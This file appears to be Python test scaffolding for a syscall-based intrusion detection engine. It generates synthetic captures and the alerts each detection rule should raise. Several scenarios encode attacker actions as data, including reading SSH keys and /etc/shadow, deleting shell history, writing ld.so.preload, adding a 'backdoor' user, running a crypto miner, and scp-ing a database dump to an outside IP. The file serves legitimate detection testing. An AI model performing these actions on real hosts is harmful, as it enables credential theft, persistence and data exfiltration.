    c.event("PPME_SYSCALL_EVENTFD_X", 670, 6)
    c.event("PPME_SYSCALL_SIGNALFD_E", 670, -1, 0, 0)
    c.event("PPME_SYSCALL_SIGNALFD_X", 670, 7)
    c.event("PPME_SYSCALL_TIMERFD_CREATE_E", 670, 1, 0)
    c.event("PPME_SYSCALL_TIMERFD_CREATE_X", 670, 8)
    c.event("PPME_SYSCALL_INOTIFY_INIT_E", 670, 0)
    c.event("PPME_SYSCALL_INOTIFY_INIT_X", 670, 9)
    for fd in (6, 7, 8, 9):
        c.event("PPME_SYSCALL_READ_E", 670, fd, 8)
        c.event("PPME_SYSCALL_READ_X", 670, 8, b"\x01\x00\x00\x00\x00\x00\x00\x00")
    # session and process group, limits
    c.event("PPME_SYSCALL_SETSID_E", 670)
    c.event("PPME_SYSCALL_SETSID_X", 670, 670)
    c.event("PPME_SYSCALL_SETPGID_E", 670, 0, 670)
    c.event("PPME_SYSCALL_SETPGID_X", 670, 0)
    c.event("PPME_SYSCALL_SETRLIMIT_E", 670, 7)
    c.event("PPME_SYSCALL_SETRLIMIT_X", 670, 0, 4096, 8192)
    c.event("PPME_SYSCALL_PRLIMIT_E", 670, 0, 7)
    c.event("PPME_SYSCALL_PRLIMIT_X", 670, 0, 2048, 4096, 4096, 8192)
    c.event("PPME_SYSCALL_GETRLIMIT_E", 670, 7)
    c.event("PPME_SYSCALL_GETRLIMIT_X", 670, 0, 2048, 4096)
    # generic syscalls (ppm_sc ids) with and without the native id
    c.event("PPME_GENERIC_E", 670, 99, 24)
    c.event("PPME_GENERIC_X", 670, 99)
    c.event("PPME_GENERIC_E", 670, 139, 28)
    c.event("PPME_GENERIC_X", 670, 139)
    # execve by the secondary thread: it becomes the process (tid 671 takes over)
    c.event("PPME_SYSCALL_EXECVE_19_E", 671, "/usr/bin/cc")
    execve_x(c, 671, 0, "cc", ["-c", "main.c"], 670, 600, "cc", cwd="/home/alice/src")
    c.event("PPME_SYSCALL_READ_E", 671, 3, 4)
    c.event("PPME_SYSCALL_READ_X", 671, 4, b"int ")
    # chroot, then an open relative to the new root
    c.event("PPME_SYSCALL_CHROOT_E", 600)
    c.event("PPME_SYSCALL_CHROOT_X", 600, 0, "/srv/jail")
    c.event("PPME_SYSCALL_OPEN_E", 600, "/etc/motd", O_RDONLY, 0)
    c.event("PPME_SYSCALL_OPEN_X", 600, 5, "/etc/motd", O_RDONLY, 0, 0x803, n=5)
    # the old procexit without parameters, then an event of the dead process's parent
    c.event("PPME_PROCEXIT_E", 671)
    c.event("PPME_SYSCALL_WRITE_E", 600, 1, 2)
    c.event("PPME_SYSCALL_WRITE_X", 600, 2, b"$ ")
    c.event("PPME_SYSCALL_WRITE_E", 800, 6, 2)
    c.event("PPME_SYSCALL_WRITE_X", 800, 2, b"ok")


def s_formats(c):
    """Older block formats with the events of s_state: v1 event blocks (no nparams: the
    reader recovers the parameter count from the schema), PL_V5 (no sid, vpgid, exepath),
    v1 fd, interface and user lists; EVF blocks (with flags) mixed in."""
    c.ev_format = "v1"
    c.pl_version = 5
    c.lists_v2 = False
    s_state(c)


def s_formats2(c):
    """EVF_V2 event blocks, PL_V7/V8 variants (exepath, vpgid), state-only events."""
    c.ev_format = "evf_v2"
    c.pl_version = 8
    s_proc(c)
    # an open delivered for state only (SCAP_DF_STATE_ONLY: parsed, never shown), then a read
    # of the fd it created
    c.event("PPME_SYSCALL_OPEN_E", 606, "/etc/hosts", O_RDONLY, 0, flags=1)
    c.event("PPME_SYSCALL_OPEN_X", 606, 7, "/etc/hosts", O_RDONLY, 0, 0x803, n=5, flags=1)
    c.event("PPME_SYSCALL_READ_E", 606, 7, 64)
    c.event("PPME_SYSCALL_READ_X", 606, 9, b"127.0.0.1")


def s_odd(c):
    """Unusual but valid input a reader must accept quietly (libscap behaviour): an unknown
    metadata block before the events (skipped), an event code beyond the schema (skipped), an
    EF_UNUSED code (dropped), more parameters than the schema on an event the converter does
    not manage (extra ones ignored), current layouts with empty parameters, a LARGE event
    block, a plugin event of an unknown plugin, events of tid 0 and of unknown threads. No
    rule may fire."""
    import struct
    world(c)
    c.extra_blocks.append(scapgen_block(0x999, b"future metadata\0"))
    c.raw_event(460, 600, [b"\1\2\3\4"])                                  # code >= PPM_EVENT_MAX
    c.raw_event(187, 600, [])                                            # PROCEXIT_1_X: EF_UNUSED
    c.event("PPME_SYSCALL_OPEN_X", 600, 3, "/etc/ssh/moduli", O_RDONLY, 0, 0x803, 99)
    # more parameters than the schema: libscap passes events the converter does not manage
    # (it rejects managed ones, as frc does: "more parameters than expected")
    c.raw_event(363, 600, [struct.pack("<q", 4), struct.pack("<q", 3), struct.pack("<q", 4), b"extra", b"params"])
    c.event("PPME_SOCKET_SOCKET_X", 600, 5, None, None, None, None)
    c.event("PPME_SOCKET_CONNECT_X", 600, 0, None, 5, None)
    c.event("PPME_SYSCALL_CLOSE_X", 0, 0, 5)
    c.event("PPME_SYSCALL_OPENAT_2_X", 777777, 3, AT_FDCWD, "x", O_RDONLY, 0, 0, 0)   # unknown thread
    c.raw_event(322, 600, [struct.pack("<I", 999), b"opaque plugin data"], lsize=4)   # pluginevent
    # an EV_V2_LARGE block (> 64 KiB) of a current layout (libscap cannot convert old layouts
    # that large: "larger than the maximum event size", as frc)
    c.large = True
    c.event("PPME_SYSCALL_EXECVE_19_X", 601, 0, "big", ["x" * 40000], 601, 601, 600, "/", 1024, 0, 0, 0, 0, 0,
            "big", [], ["E=" + "y" * 40000], 0, 601, 1000, 0, 0, 0, 0, 0, 0, 0, 1000, "/usr/bin/big", 601,
            1000, "/usr/bin/big")
    c.large = False
    c.event("PPME_SYSCALL_DUP2_X", 600, 1, 99, 1)                        # dup2 of an unknown fd
    c.event("PPME_PROCEXIT_1_E", 600, 0, 0, 0, 0, 1)
    c.event("PPME_SYSCALL_WRITE_X", 600, 2, b"hi", 1, 2)                 # after its procexit


def s_head2(c):
    """More current-driver captures (exit events only, every parameter): rules of the
    incubating and sandbox files on file, process and network events."""
    c.boot_ts = BOOT_TS
    world(c)
    c.thread(900, 900, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
             ["-namespace", "moby", "-id", CTR1], "/run/containerd", exepath="/usr/bin/containerd-shim-runc-v2")
    js = '{"container":{"id":"%s","image":"docker.io/library/debian:12","imagerepo":"docker.io/library/debian",' \
         '"imagetag":"12","ip":"172.17.0.2","name":"app","privileged":false,"type":0}}'
    c.event("PPME_CONTAINER_JSON_2_E", 0, js % CTR1[:12])
    SHIM = "/usr/bin/containerd-shim-runc-v2"
    shim_args = ["-namespace", "moby", "-id", CTR1]

    def fork_exec(parent, pptid, child, pcomm, pexe, pargs, exe, args, comm, path, exepath, uid, gid, env,
                  tty, loginuid, cwd="/home/alice", cg=("cpuset=/",)):
        fl = CL_CHILD_CLEARTID | CL_CHILD_SETTID
        h_clone(c, "PPME_SYSCALL_CLONE_20_X", parent, child, parent, parent, pptid, pexe, pargs, pcomm, list(cg),
                fl, uid, gid, cwd=cwd)
        h_clone(c, "PPME_SYSCALL_CLONE_20_X", child, 0, child, child, parent, pexe, pargs, pcomm, list(cg),
                fl, uid, gid, cwd=cwd)
        h_execve(c, child, 0, exe, args, child, parent, comm, list(cg), env, path, exepath, tty=tty,
                 loginuid=loginuid, uid=uid, gid=gid, cwd=cwd)

    # a database server runs a program
    fork_exec(800, 1, 680, "postgres", "/usr/lib/postgresql/15/bin/postgres",
              ["-D", "/var/lib/postgresql/15/main"], "pg_dump", ["-Fc", "app"], "pg_dump",
              "/usr/bin/pg_dump", "/usr/lib/postgresql/15/bin/pg_dump", 999, 999, ["PGDATA=/var/lib/pg"], 0,
              NOLOGIN, cwd="/var/lib/postgresql/15/main")
    c.expect("all", "DB program spawned process", "Notice",
             "Database-related program spawned process other than itself | " +
             tail("execve", "postgres", 999, -1, "pg_dump", "/usr/lib/postgresql/15/bin/pg_dump", "postgres",
                  "pg_dump -Fc app", 0, "0"))
    # curl through a proxy set in the environment
    fork_exec(600, 510, 681, "bash", "-bash", [], "curl", ["-s", "http://example.com/"], "curl", "/usr/bin/curl",
              "/usr/bin/curl", 1000, 1000, ["HOME=/home/alice", "HTTP_PROXY=http://10.9.9.9:3128"], TTY, 1000)
    c.expect("all", "Program run with disallowed http proxy env", "Notice",
             "Curl or wget run with disallowed HTTP_PROXY environment variable | "
             "env=HOME=/home/alice HTTP_PROXY=http://10.9.9.9:3128 " +
             tail("execve", "alice", 1000, 1000, "curl", "/usr/bin/curl", "bash", "curl -s http://example.com/",
                  TTY, "0"))
    # a script reads a private key, edits .bashrc, removes the history, drops files
    fork_exec(600, 510, 682, "bash", "-bash", [], "python3", ["x.py"], "python3", "/usr/bin/python3",
              "/usr/bin/python3.11", 1000, 1000, ALICE_ENV, TTY, 1000)
    PYH = tail("%s", "alice", 1000, 1000, "python3", "/usr/bin/python3.11", "bash", "python3 x.py", TTY)
    c.event("PPME_SYSCALL_OPENAT2_X", 682, 3, AT_FDCWD, ".ssh/id_rsa", O_RDONLY, 0, 0, 0x803, 3001)
    c.expect("all", "Read ssh information", "Error",
             "ssh-related file/directory read by non-ssh program | file=/home/alice/.ssh/id_rsa pcmdline=bash " +
             PYH % "openat2")
    c.event("PPME_SYSCALL_OPENAT_2_X", 682, 4, AT_FDCWD, "/home/alice/.bashrc", O_WRONLY | O_APPEND, 0, 0x803, 3002)
    c.expect("all", "Modify Shell Configuration File", "Warning",
             "A shell configuration file has been modified | file=/home/alice/.bashrc pcmdline=bash " + PYH % "openat")
    c.event("PPME_SYSCALL_UNLINKAT_2_X", 682, 0, AT_FDCWD, ".bash_history", 0)
    c.expect("all", "Delete or rename shell history", "Warning",
             "Shell history deleted or renamed | file= name=/home/alice/.bash_history path=<NA> oldpath=<NA> " +
             PYH % "unlinkat")
    c.event("PPME_SYSCALL_OPENAT_2_X", 682, 5, AT_FDCWD, "/usr/bin/sshd2", O_WRONLY | O_CREAT | O_F_CREATED,
            0o755, 0x803, 3003)
    c.expect("all", "Write below binary dir", "Error",
             "File below a known binary directory opened for writing | file=/usr/bin/sshd2 pcmdline=bash "
             "gparent=sshd " + PYH % "openat")
    c.event("PPME_SYSCALL_OPEN_X", 682, 6, "/dev/.hidden", O_WRONLY | O_CREAT | O_F_CREATED, 0o600, 0x5, 3004)
    c.expect("all", "Create files below dev", "Error",
             "File created below /dev by untrusted program | file=/dev/.hidden " + PYH % "open")
    c.event("PPME_SYSCALL_OPEN_X", 682, 7, "/etc/shadow", O_RDONLY, 0, 0x803, 3005)
    c.expect(FA, "Read sensitive file untrusted", "Warning",
             "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd "
             "ggparent=sshd gggparent=systemd " + PYH % "open")
    c.event("PPME_PROCEXIT_1_E", 682, 0, 0, 0, 0, 600)

    # a container process from the process table, with the libs >= 0.10 PL_V9 tail (tty,
    # capabilities, exe flags and inode, pid namespace start, pgid)
    caps = CAPS_DEFAULT | (1 << CAP_SYS_ADMIN) | (1 << CAP_SYS_MODULE)
    c.thread(960, 960, 900, "agent", "agent", ["--mod"], "/opt", uid=0, gid=0, exepath="/opt/agent",
             vtid=5, vpid=5, loginuid=1000, cgroups=CTR1_CG, sid=960,
             v10={"pidns_init_start_ts": 1699995000000000000, "tty": 34818, "exe_writable": 1,
                  "caps": (0, caps, caps), "exe_upper_layer": 1,
                  "exe_ino": (5555, 1699990100000000000, 1699990050000000000), "pgid": 960})
    c.event("PPME_SYSCALL_FINIT_MODULE_X", 960, 0, 3, "", 0)
    c.expect(FA, "Linux Kernel Module Injection Detected", "Warning",
             "Linux Kernel Module injection from container | parent_exepath=/usr/bin/containerd-shim-runc-v2 "
             "gparent=systemd gexepath=/sbin/init module=--mod res=SUCCESS " +
             tail("finit_module", "root", 0, 1000, "agent", "/opt/agent", "containerd-shim", "agent --mod", 34818))
    c.expect_format("proc.name=agent",
                    "%proc.tty %user.loginuid %proc.is_exe_writable %proc.is_exe_upper_layer %proc.is_exe_from_memfd "
                    "%proc.exe_ino %proc.exe_ino.ctime %proc.exe_ino.mtime %proc.pgid %proc.vpid %container.id "
                    "%container.start_ts | %thread.cap_effective",
                    ["34818 1000 true true false 5555 1699990100000000000 1699990050000000000 960 5 %s "
                     "1699995000000000000 | CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID "
                     "CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_MODULE CAP_SYS_CHROOT "
                     "CAP_SYS_ADMIN CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP" % CTR1[:12]])

    # a container: the package manager, then the instance metadata service
    ns = CL_NEWPID | CL_NEWNS | CL_NEWNET | CL_CHILD_CLEARTID
    h_clone(c, "PPME_SYSCALL_CLONE3_X", 900, 940, 900, 900, 1, SHIM, shim_args, "containerd-shim",
            ["cpuset=/"], ns, cwd="/run/containerd")
    h_clone(c, "PPME_SYSCALL_CLONE3_X", 940, 0, 940, 940, 900, SHIM, shim_args, "containerd-shim",
            CTR1_CG, ns, vtid=1, vpid=1, cwd="/run/containerd", pidns_start=20000000000)
    h_execve(c, 940, 0, "apt-get", ["install", "-y", "nmap"], 940, 900, "apt-get", CTR1_CG, ROOT_ENV,
             "/usr/bin/apt-get", "/usr/bin/apt-get")
    c.expect("all", "Launch Package Management Process in Container", "Error",
             "Package management process launched in container | " +
             tail("execve", "root", 0, -1, "apt-get", "/usr/bin/apt-get", "containerd-shim",
                  "apt-get install -y nmap", 0, "0"))
    c.event("PPME_SOCKET_SOCKET_X", 940, 3, 2, 1, 6, 0)
    c.event("PPME_SOCKET_CONNECT_X", 940, 0, ("inet", "172.17.0.2", 45000, "169.254.169.254", 80), 3,
            ("inet", "169.254.169.254", 80))
    c.expect("all", "Contact EC2 Instance Metadata Service From Container", "Notice",
             "Outbound connection to EC2 instance metadata service | connection=172.17.0.2:45000->169.254.169.254:80 "
             "lport=45000 rport=80 fd_type=ipv4 fd_proto=tcp " +
             tail("connect", "root", 0, -1, "apt-get", "/usr/bin/apt-get", "containerd-shim",
                  "apt-get install -y nmap", 0))


def s_head3(c):
    """Current-driver captures of the process-launch rules of the incubating and sandbox files
    (the actions of falcosecurity/event-generator), on the host and in a container."""
    c.boot_ts = BOOT_TS
    world(c)
    c.thread(900, 900, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
             ["-namespace", "moby", "-id", CTR1], "/run/containerd", exepath="/usr/bin/containerd-shim-runc-v2")
    js = '{"container":{"id":"%s","image":"docker.io/library/alpine:3.19","imagerepo":"docker.io/library/alpine",' \
         '"imagetag":"3.19","ip":"172.17.0.2","name":"web","privileged":false,"type":0}}'
    c.event("PPME_CONTAINER_JSON_2_E", 0, js % CTR1[:12])
    SHIM = "/usr/bin/containerd-shim-runc-v2"
    fl = CL_CHILD_CLEARTID | CL_CHILD_SETTID
    nxt = [700]

    def run(parent, pptid, pcomm, pexe, pargs, exe, args, comm, exepath, uid=1000, gid=1000, env=ALICE_ENV,
            tty=TTY, loginuid=1000, cg=("cpuset=/",), cwd="/home/alice", vpids=None):
        nxt[0] += 1
        child = nxt[0]
        cfl = fl | ((1 << 29) if vpids else 0)
        h_clone(c, "PPME_SYSCALL_CLONE_20_X", parent, child, parent, parent, pptid, pexe, pargs, pcomm, list(cg),
                cfl, uid, gid, cwd=cwd, vtid=vpids[0] if vpids else None, vpid=vpids[0] if vpids else None)
        h_clone(c, "PPME_SYSCALL_CLONE_20_X", child, 0, child, child, parent, pexe, pargs, pcomm, list(cg),
                cfl, uid, gid, cwd=cwd, vtid=vpids[1] if vpids else None, vpid=vpids[1] if vpids else None,
                pidns_start=20000000000 if vpids else 0)
        h_execve(c, child, 0, exe, args, child, parent, comm, list(cg), env, exepath, exepath, tty=tty,
                 loginuid=loginuid, uid=uid, gid=gid, cwd=cwd)
        return child

    def host(exe, args, comm, exepath, **k):
        return run(600, 510, "bash", "-bash", [], exe, args, comm, exepath, **k)

    def alice(evt, proc, exepath, cmd, flags="0", tty=TTY):
        return tail(evt, "alice", 1000, 1000, proc, exepath, "bash", cmd, tty, flags)

    host("crontab", ["-e"], "crontab", "/usr/bin/crontab")
    c.expect("all", "Schedule Cron Jobs", "Notice",
             "Cron jobs were scheduled to run | file=<NA> " +
             alice("execve", "crontab", "/usr/bin/crontab", "crontab -e", flags=None))
    host("useradd", ["-m", "backdoor"], "useradd", "/usr/sbin/useradd", uid=0, gid=0)
    c.expect("all", "User mgmt binaries", "Notice",
             "User management binary command run outside of container | gparent=sshd ggparent=sshd "
             "gggparent=systemd " +
             tail("execve", "root", 0, 1000, "useradd", "/usr/sbin/useradd", "bash", "useradd -m backdoor", TTY, "0"))
    host("xmrig", ["-o", "stratum+tcp://pool.example:3333"], "xmrig", "/tmp/xmrig")
    c.expect("all", "Detect crypto miners using the Stratum protocol", "Critical",
             "Possible miner running | " +
             alice("execve", "xmrig", "/tmp/xmrig", "xmrig -o stratum+tcp://pool.example:3333"))
    host("pkexec", [], "pkexec", "/usr/bin/pkexec", uid=0, gid=0)
    c.expect("all", "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "Critical",
             "Detect Polkit pkexec Local Privilege Escalation Exploit (CVE-2021-4034) | args= " +
             tail("execve", "root", 0, 1000, "pkexec", "/usr/bin/pkexec", "bash", "pkexec", TTY, "0"))
    host("su", ["-"], "su", "/usr/bin/su", env=["GLIBC_TUNABLES=glibc.tune.x=AAAA"], uid=0, gid=0)
    c.expect("all", "Potential Local Privilege Escalation via Environment Variables Misuse", "Notice",
             "Process run with suspect environment variable which could be attempting privilege escalation | "
             "env=GLIBC_TUNABLES=glibc.tune.x=AAAA " +
             tail("execve", "root", 0, 1000, "su", "/usr/bin/su", "bash", "su -", TTY, "0"))
    # a root shell creates a directory in /usr/bin and writes /etc/ld.so.preload
    sh = host("bash", ["-i"], "bash", "/usr/bin/bash", uid=0, gid=0)
    c.event("PPME_SYSCALL_MKDIRAT_X", sh, 0, AT_FDCWD, "/usr/bin/.cache", 0o755)
    ROOTSH = tail("%s", "root", 0, 1000, "bash", "/usr/bin/bash", "bash", "bash -i", TTY)
    c.expect("all", "Mkdir binary dirs", "Error",
             "Directory below known binary directory created | directory=/usr/bin/.cache " + ROOTSH % "mkdirat")
    c.event("PPME_SYSCALL_OPENAT_2_X", sh, 3, AT_FDCWD, "/etc/ld.so.preload", O_WRONLY | O_CREAT | O_TRUNC, 0o644,
            0x803, 4001)
    c.expect("all", "Write below etc", "Error",
             "File below /etc opened for writing | file=/etc/ld.so.preload pcmdline=bash gparent=sshd ggparent=sshd "
             "gggparent=systemd " + ROOTSH % "openat")

    # in a container: a shell started by the shim, then tools
    ns = CL_NEWPID | CL_NEWNS | CL_NEWNET | CL_CHILD_CLEARTID
    h_clone(c, "PPME_SYSCALL_CLONE3_X", 900, 950, 900, 900, 1, SHIM, [], "containerd-shim", ["cpuset=/"], ns,
            cwd="/run/containerd")
    h_clone(c, "PPME_SYSCALL_CLONE3_X", 950, 0, 950, 950, 900, SHIM, [], "containerd-shim", CTR1_CG, ns,
            vtid=1, vpid=1, cwd="/run/containerd", pidns_start=20000000000)
    h_execve(c, 950, 0, "/bin/sh", [], 950, 900, "sh", CTR1_CG, ROOT_ENV, "/bin/sh", "/bin/busybox")
    # the sandbox rule's "not container.mount.dest[/proc*] in (<NA>, N/A)" is true when the
    # container has no such mount (the field has no value; fields.md §7): every container
    # start the earlier rules do not claim raises it
    c.expect("all", "Launch Sensitive Mount Container", "Informational",
             "Container with sensitive mount started | mounts= " +
             tail("execve", "root", 0, -1, "sh", "/bin/busybox", "containerd-shim", "sh", 0))

    def ctr(exe, args, comm, exepath, vpid):
        return run(950, 900, "sh", "/bin/sh", [], exe, args, comm, exepath, uid=0, gid=0, env=ROOT_ENV, tty=0,
                   loginuid=NOLOGIN, cg=CTR1_CG, cwd="/run/containerd", vpids=(1, vpid))

    def root(evt, proc, exepath, cmd, flags="0"):
        return tail(evt, "root", 0, -1, proc, exepath, "sh", cmd, 0, flags)

    ctr("nmap", ["-sS", "10.0.0.0/24"], "nmap", "/usr/bin/nmap", 2)
    c.expect("all", "Launch Suspicious Network Tool in Container", "Notice",
             "Network tool launched in container | " + root("execve", "nmap", "/usr/bin/nmap", "nmap -sS 10.0.0.0/24"))
    ctr("scp", ["db.sql", "x@203.0.113.5:"], "scp", "/usr/bin/scp", 3)
    c.expect("all", "Launch Remote File Copy Tools in Container", "Notice",
             "Remote file copy tool launched in container | " +
             root("execve", "scp", "/usr/bin/scp", "scp db.sql x@203.0.113.5:"))
    ctr("kubectl", ["get", "secrets"], "kubectl", "/usr/local/bin/kubectl", 4)
    c.expect("all", "Kubernetes Client Tool Launched in Container", "Warning",
             "Kubernetes Client Tool Launched in Container | " +
             root("execve", "kubectl", "/usr/local/bin/kubectl", "kubectl get secrets"))
    ctr("base64", ["-d", "/tmp/p.b64"], "base64", "/usr/bin/base64", 5)
    c.expect("all", "Decoding Payload in Container", "Informational",
             "Decoding Payload in Container | " + root("execve", "base64", "/usr/bin/base64", "base64 -d /tmp/p.b64"))
    cat = ctr("cat", ["/proc/1/environ"], "cat", "/bin/busybox", 6)
    c.event("PPME_SYSCALL_OPENAT_2_X", cat, 3, AT_FDCWD, "/proc/1/environ", O_RDONLY, 0, 0x4, 4002)
    c.expect("all", "Read environment variable from /proc files", "Warning",
             "Environment variables were retrieved from /proc files | file=/proc/1/environ gparent=containerd-shim "
             "ggparent=systemd gggparent=<NA> " +
             tail("openat", "root", 0, -1, "cat", "/bin/busybox", "sh", "cat /proc/1/environ", 0))


H1 = "3f1b2c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f809"
H2 = "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90"
H3 = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
H4 = "fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210"
H5 = "5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a"
H6 = "6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b6b"
# (cgroup path, container.id by the container plugin's matchers: fields.md §7.1, compared with
# sysdig 0.29.3 when its own matchers know the layout: the bool)
CGROUP_CASES = [
    ("/docker/" + H1, H1[:12], True),                                    # docker, cgroup v1
    ("/system.slice/docker-" + H2 + ".scope", H2[:12], True),            # docker, systemd driver
    ("/kubepods/besteffort/pod0d3c6b1e-1111-2222-3333-444455556666/" + H3, H3[:12], True),
    ("/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod12.slice/crio-" + H4 + ".scope",
     H4[:12], True),                                                     # cri-o
    ("/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod34.slice/cri-containerd-"
     + H5 + ".scope", H5[:12], False),                                   # containerd under k8s
    ("/machine.slice/libpod-" + H6 + ".scope", H6[:12], False),           # podman
    ("/default/redis-cache", "redis-cache", False),                      # containerd (ctr) namespace
    ("/system.slice/docker.service", "host", True),                      # not containers
    ("/user.slice/user-1000.slice/session-3.scope", "host", True),
    # 63 characters: not a docker/cri id; the containerd matcher takes the first path component
    # as the namespace and accepts a 1..64-character id, reported by its first 12 characters
    ("/docker/" + H1[:63], H1[:12], False),
]


def s_cgroups(c):
    """container.id from the cgroup layouts of fields.md §7.1 (clone children of a host shim,
    then an execve and an open in each), session and process-group fields (sid, vpgid, sname,
    tty, loginshellid), fd.nameraw of relative and '..' paths, evt.is_open_exec of created
    files. The layouts sysdig 0.29.3's own matchers know are compared with it; the container
    plugin's others (podman, containerd, cri-containerd) are checked against the ids fields.md
    gives (expect_format)."""
    world(c)
    c.thread(950, 950, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", ["-namespace", "k8s.io"],
             "/run/containerd", exepath="/usr/bin/containerd-shim-runc-v2")
    exp = []
    for i, (path, cid, _) in enumerate(CGROUP_CASES):
        tid = 960 + i
        cg = ["cpuset=" + path, "memory=" + path, "pids=" + path]
        ctr_clone(c, 950, tid, "sh", ["-c", "run"], "sh", cg, tid, "/usr/bin/containerd-shim-runc-v2",
                  "containerd-shim", ["-namespace", "k8s.io"])
        ctr_exec(c, tid, "/usr/bin/app", "/usr/bin/app", ["--id", str(i)], "app", 950, tid, cg)
        c.event("PPME_SYSCALL_OPEN_E", tid, "/etc/hosts", O_RDONLY, 0)
        c.event("PPME_SYSCALL_OPEN_X", tid, 3, "/etc/hosts", O_RDONLY, 0, 0x803, n=5)
        exp.append("%d %s" % (tid, cid))
    c.expect_format("evt.type=open and proc.name=app", "%thread.tid %container.id", exp)
    # sessions: bash (sid 600, its own group) starts a pipeline in a new process group, one
    # member calls setsid
    spawn(c, 600, 611, "grep", ["-r", "key"], "grep", "/usr/bin/grep", ptid=510)
    c.event("PPME_SYSCALL_SETPGID_E", 611, 0, 611)
    c.event("PPME_SYSCALL_SETPGID_X", 611, 0)
    spawn(c, 600, 612, "sort", [], "sort", "/usr/bin/sort", ptid=510)
    c.event("PPME_SYSCALL_SETSID_E", 612)
    c.event("PPME_SYSCALL_SETSID_X", 612, 612)
    spawn(c, 612, 613, "uniq", ["-c"], "uniq", "/usr/bin/uniq", ptid=600, pexe="sort", pcomm="sort")
    # relative paths, '..' and duplicate '/' in open/openat names
    t = 611
    for name in ("notes.txt", "../bob/todo/list", "./a//b/../c.txt", "/etc//hostname", "sub/../../x"):
        c.event("PPME_SYSCALL_OPEN_E", t, name, O_RDONLY, 0)
        c.event("PPME_SYSCALL_OPEN_X", t, 4, name, O_RDONLY, 0, 0x803, n=5)
        c.event("PPME_SYSCALL_CLOSE_E", t, 4)
        c.event("PPME_SYSCALL_CLOSE_X", t, 0)
    c.event("PPME_SYSCALL_OPENAT_2_E", t, AT_FDCWD, "rel/../y.txt", O_RDONLY, 0)
    c.event("PPME_SYSCALL_OPENAT_2_X", t, 4, AT_FDCWD, "rel/../y.txt", O_RDONLY, 0, 0x803, n=6)
    c.expect_format("thread.tid=611 and evt.type in (open, openat)", "%fd.name|%fd.nameraw", [
        "/home/alice/notes.txt|notes.txt", "/home/bob/todo/list|../bob/todo/list",
        "/home/alice/a/c.txt|./a/b/../c.txt", "/etc/hostname|/etc/hostname", "/home/x|sub/../../x",
        "/home/alice/y.txt|rel/../y.txt"])
    # created files with and without execute bits (evt.is_open_exec, evt.is_open_write)
    for name, fl, mode in (("run.sh", O_WRONLY | O_CREAT | O_TRUNC, 0o755), ("data.bin", O_RDWR | O_CREAT, 0o640),
                           ("tool", O_WRONLY | O_CREAT, 0o700), ("log", O_WRONLY | O_APPEND, 0o777)):
        c.event("PPME_SYSCALL_OPEN_E", 612, name, fl, mode)
        c.event("PPME_SYSCALL_OPEN_X", 612, 5, name, fl, mode, 0x803, n=5)
        c.event("PPME_SYSCALL_CLOSE_E", 612, 5)
        c.event("PPME_SYSCALL_CLOSE_X", 612, 0)
    c.expect_format("thread.tid=612 and evt.type=open",
                    "%fd.filename %evt.is_open_exec %evt.is_open_write %evt.is_open_read",
                    ["run.sh true true false", "data.bin false true true", "tool true true false",
                     "log false true false"])


SCENARIOS = [
    ("gen_proc", s_proc),
    ("gen_files", s_files),
    ("gen_net", s_net),
    ("gen_attack", s_attack),
    ("gen_head", s_head),
    ("gen_state", s_state),
    ("gen_formats", s_formats),
    ("gen_formats2", s_formats2),
    ("gen_odd", s_odd),
    ("gen_head2", s_head2),
    ("gen_head3", s_head3),
    ("gen_cgroups", s_cgroups),
]
# the captures compared field by field with sysdig 0.29.3 (tests/sysdig_diff)
COMPARED = {"gen_proc", "gen_files", "gen_net", "gen_attack", "gen_state", "gen_formats", "gen_formats2",
            "gen_cgroups"}
